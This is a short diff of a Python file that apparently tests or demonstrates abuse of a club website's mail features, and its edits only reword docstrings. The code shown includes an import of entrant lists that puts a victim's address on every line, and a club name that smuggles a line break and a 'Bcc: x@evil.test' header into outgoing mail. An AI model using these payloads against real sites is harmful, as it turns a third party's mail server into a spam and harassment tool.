@@ -1,4 +1,4 @@
-"""The club's mail server as a stranger's tool."""
+"""A stranger uses the club’s mail server."""
 
 import html
 import re
@@ -53,7 +53,7 @@ def add(browser: Browser, helpers: str, email: str) -> None:
 
 
 def roles(page: str, helpers: str) -> Iterable[int]:
-    """Of the helpers on the page."""
+    """Return the numbers of the helpers on the page."""
     for part in page.split(helpers)[1:]:
         number, _, rest = part.partition("/")
         if number.isdecimal() and rest.startswith("remove/"):
@@ -61,7 +61,7 @@ def roles(page: str, helpers: str) -> Iterable[int]:
 
 
 def entrants(browser: Browser, desk: str, count: int) -> None:
-    """A list with the victim's address on every line."""
+    """Send a list with the victim’s address on every line."""
     lines = [f"Pat {chr(65 + number)}.,3 May 1950,{VICTIM}" for number in range(count)]
     shown = browser.submit(f"{desk}entrants/import/", text="\n".join(["Name,Born,E-mail", *lines]))
     sheet = re.search(r'name="sheet"[^>]*value="([^"]*)"', shown.text)
@@ -70,7 +70,7 @@ def entrants(browser: Browser, desk: str, count: int) -> None:
 
 
 def break_a_line(target: Target, world: World) -> Got:
-    """A name of two lines: the helper is made, and nothing is broken."""
+    """Send a name of two lines: the helper is made, and nothing is broken."""
     browser = target.sign_up("line@attacker.test", "198.51.100.92")
     made = browser.submit("/clubs/new/", name="Two\u2028Lines\r\nBcc: x@evil.test")
     club = made.headers.get("Location", "").split("/")[-2:-1]
